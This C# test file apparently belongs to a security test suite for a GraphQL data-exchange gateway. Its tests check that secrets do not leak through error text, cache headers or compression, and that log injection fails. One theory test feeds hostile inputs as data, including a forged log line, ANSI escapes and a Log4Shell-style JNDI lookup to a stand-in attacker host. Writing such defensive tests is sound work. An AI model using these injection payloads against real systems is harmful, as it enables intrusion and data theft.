using DataExchange.AttackTests.Cases;
using DataExchange.AttackTests.Harness;
using DataExchange.AttackTests.Transports;
using DataExchange.AttackTests.Worlds;
using DataExchange.Testing.Subgraphs;

namespace DataExchange.AttackTests.Families;

/// <summary>Family C, what needs registries, grants or headers of its own.</summary>
public sealed class OracleTests
{
    private static World World => ReferenceWorlds.WorldOf("first", hasConvictions: true);

    [Fact]
    public async Task T54_text_of_a_registrys_error_does_not_leave()
    {
        await using var system = await AttackSystem.StartAsync(new AttackSetup { World = World });
        var secret = World.Canaries.First(c => c.Coordinate == "Citizen.income").Text;
        system.Registries["registry"].Script = _ => ScriptedReply.Json(
            $$$$"""{"data":{"citizen":{"__typename":"Citizen","id":"1","name":null}},"errors":[{"message":"Int cannot represent '{{{{secret}}}}'","path":["citizen","name"],"extensions":{"code":"{{{{secret}}}}","row":{"income":{{{{secret}}}}}}}]}""");

        var reply = await system.AskAsync("{ citizen(id: 1) { name } }");

        var scanner = system.ScannerFor(Callers.Housing);
        Assert.Empty(scanner.In("answer", reply.Body).Concat(scanner.In("shown", system.Evidence.Since(0))));
        Assert.Equal("SUBGRAPH_ERROR", Assert.Single(reply.Codes));
    }

    [Fact]
    public async Task T55_parameter_over_a_denied_cell_needs_that_cell_and_a_fixed_predicate_its_own_grant()
    {
        await using var system = await AttackSystem.StartAsync(new AttackSetup { World = World, Grants = Callers.With(Callers.Allow([.. Callers.HousingCoordinates, "Citizen.isOlderThan"])) });

        var searched = await system.AskAsync("query($n: Int!) { citizen(id: 1) { isOlderThan(years: $n) isAdult } }", variables: """{"n":40}""");

        Assert.Equal("""{"citizen":{"isOlderThan":null,"isAdult":true}}""", searched.Data);
        Assert.Equal("Citizen.isOlderThan at citizen.isOlderThan: ARGUMENT_NOT_GRANTED", Assert.Single(searched.Denied));
        Assert.DoesNotContain(system.Registries.Requests, r => r.Request.Query.Contains("isOlderThan", StringComparison.Ordinal));
    }

    [Fact]
    public async Task T57_conflict_says_the_same_whatever_was_guessed()
    {
        var grants = Callers.With([.. Callers.Allow([.. Callers.HousingCoordinates, "Mutation.registerBirth"]), .. Callers.Allow("Citizen.nationalId").Select(g => g with { Use = Access.Agreements.GrantUse.Input })]);
        await using var system = await AttackSystem.StartAsync(new AttackSetup { World = World, Grants = grants });
        var known = World.Canaries.First(c => c.Coordinate == "Citizen.nationalId").Text;
        string[] messages = [$"duplicate key value violates unique constraint: Key (national_id)=({known}) already exists, held by Ana", "foreign key 17 of table births"];
        var answers = new List<string>();
        foreach (var message in messages)
        {
            system.Registries["registry"].Script = _ => ScriptedReply.Json($$"""{"data":{"registerBirth":null},"errors":[{"message":"{{message}}","path":["registerBirth"]}]}""");
            answers.Add((await system.AskAsync($"mutation {{ registerBirth(nationalId: \"{known}\", name: \"y\") {{ citizen {{ name }} }} }}")).Normalised);
        }

        Assert.Equal(answers[0], answers[1]);
        Assert.DoesNotContain("constraint", answers[0], StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task T58_answers_that_mix_what_the_client_wrote_with_what_it_reads_are_not_compressed()
    {
        await using var system = await AttackSystem.StartAsync(new AttackSetup { World = World });

        var reply = await system.AskAsync("{ citizen(id: 1) { name } }", headers: ("Accept-Encoding", "gzip, br, zstd"));

        Assert.DoesNotContain("Content-Encoding", reply.Head, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task T60_nothing_tells_that_somebody_asked_before()
    {
        await using var system = await AttackSystem.StartAsync(new AttackSetup { World = World });
        const string Query = "{ person(id: 1) { name } }";
        var first = await system.AskAsync(Query);
        await system.AskAsync(Query, Callers.Investigator);
        var again = await system.AskAsync(Query);

        Assert.Equal(first.Normalised, again.Normalised);
        Assert.DoesNotContain(again.Head.Split('\n'), h => h.StartsWith("Age", StringComparison.OrdinalIgnoreCase) || h.StartsWith("X-Cache", StringComparison.OrdinalIgnoreCase) || h.StartsWith("ETag", StringComparison.OrdinalIgnoreCase));
        Assert.Equal(3, system.Registries["registry"].Requests.Count);
    }

    [Theory]
    [InlineData("A\\n2026-11-22 info: forged line")]
    [InlineData("\\u001b[31mred\\u001b[0m")]
    [InlineData("${jndi:ldap://attacker.example/a}")]
    public async Task T64_what_a_client_writes_never_becomes_a_line_of_a_log(string text)
    {
        await using var system = await AttackSystem.StartAsync(new AttackSetup { World = World });
        var plain = System.Text.Json.JsonSerializer.Deserialize<string>($"\"{text}\"")!;
        string[] bodies =
        [
            $$"""{"query":"{ citizen(id: 1) { name } }","operationName":"{{text}}"}""",
            $$$"""{"query":"query { citizen(id: \"{{{text.Replace("\\", "\\\\", StringComparison.Ordinal)}}}\") { name } }"}""",
            $$$"""{"query":"query($i: ID!) { citizen(id: $i) { name } }","variables":{"i":"{{{text}}}"}}""",
            $$"""{"documentId":"{{text}}"}""",
        ];
        foreach (var body in bodies)
        {
            await HttpSending.PostAsync(system.Url, new AttackRequest(string.Empty) { Token = system.Tokens.Of(Callers.Housing) }, body, "application/json");
        }

        await system.AskAsync("{ citizen(id: 1) { name } }", headers: ("DataExchange-Case", plain.Replace("\n", string.Empty, StringComparison.Ordinal).Replace("\u001b", string.Empty, StringComparison.Ordinal)));
        var (records, _) = await system.Stores.RecordsAsync();
        foreach (var shown in (string[])[system.Evidence.Since(0), records])
        {
            Assert.DoesNotContain("forged line", shown, StringComparison.Ordinal);
            Assert.DoesNotContain("\u001b[31m", shown, StringComparison.Ordinal);
            Assert.DoesNotContain("${jndi", shown, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task T64_name_of_a_megabyte_is_refused_by_its_size()
    {
        await using var system = await AttackSystem.StartAsync(new AttackSetup { World = World });

        var (status, _, _) = await HttpSending.PostAsync(
            system.Url, new AttackRequest(string.Empty) { Token = system.Tokens.Of(Callers.Housing) },
            $$"""{"query":"{ citizen(id: 1) { name } }","operationName":"{{new string('x', 1_000_000)}}"}""", "application/json");

        Assert.Equal(413, status);
        Assert.DoesNotContain("xxxxxxxxxxxxxxxxxxxx", system.Evidence.Since(0), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Files_and_stores_of_a_system_hold_no_cell_of_a_registry_after_every_case()
    {
        await using var system = await AttackSystem.StartAsync(new AttackSetup { World = World });
        foreach (var attack in CaseCatalogue.ById.Values)
        {
            var request = new AttackRequest(attack.Query) { Token = system.Tokens.Of(Callers.Investigator), Variables = attack.Variables, OperationName = attack.OperationName };
            await TransportMatrix.All[TransportMatrix.Post].SendAsync(system.Url, request);
        }

        // Even of what was granted nothing is kept: neither in clear nor in a form that can be turned back.
        var scanner = new CanaryScanner(World.Canaries);
        var found = new List<string>(scanner.In("shown", system.Evidence.Since(0)));
        foreach (var file in Directory.EnumerateFiles(system.Stores.Folder.Path, "*", SearchOption.AllDirectories))
        {
            await using var stream = new FileStream(file, FileMode.Open, FileAccess.Read, FileShare.ReadWrite | FileShare.Delete);
            using var bytes = new MemoryStream();
            await stream.CopyToAsync(bytes, TestContext.Current.CancellationToken);
            found.AddRange(scanner.In(Path.GetFileName(file), bytes.ToArray()));
        }

        found.AddRange(scanner.In("stores", await system.Stores.AllAsync()));
        Assert.Empty(found);
    }
}
